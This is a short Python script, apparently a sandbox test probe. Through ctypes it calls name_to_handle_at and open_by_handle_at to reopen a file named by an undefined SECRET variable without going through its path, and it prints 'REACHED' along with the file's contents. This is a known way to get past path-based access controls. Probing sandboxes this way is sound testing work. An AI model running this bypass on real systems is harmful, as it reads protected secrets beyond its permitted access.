"""Open the secret by a file handle, which passes by every path."""

# ruff: noqa
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_uint * 34)(128)
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, SECRET.encode(), handle, ctypes.byref(mount), 0) == 0:
    print("REACHED the handle", bytes(handle)[:24])
    if (descriptor := libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_RDONLY)) >= 0:
        print("REACHED", os.read(descriptor, 100))
print(os.strerror(ctypes.get_errno()))
